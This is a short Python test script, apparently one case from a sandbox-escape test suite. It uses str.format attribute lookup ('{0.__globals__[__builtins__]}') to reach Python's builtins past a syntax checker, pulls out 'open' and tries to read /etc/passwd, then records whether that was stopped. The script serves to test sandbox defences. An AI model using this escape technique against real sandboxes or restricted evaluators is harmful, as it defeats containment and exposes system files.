"""Has str.format look attributes up.

tries: read attributes that a checker of syntax forbids
layers: landlock, namespaces
observed: stopped
source: RestrictedPython CVE-2023-41039; asteval CVE-2025-24359; Jinja2 CVE-2016-10745; smolagents pull request 2271
"""

import string


class Catch(string.Formatter):
    def get_field(self, name, arguments, names):
        self.found, _ = super().get_field(name, arguments, names)
        return "", name


def function():
    pass


template = "{0.__globals__[__builtins__]}"
shown = template.format(function)
catch = Catch()
catch.format(template, function)
names = catch.found
open_ = (names if isinstance(names, dict) else vars(names))["open"]

try:
    with open_("/etc/passwd", "rb") as file:
        result = f"escaped: {len(file.read(16))} bytes of /etc/passwd"
except OSError as error:
    result = f"stopped: {type(error).__name__}"
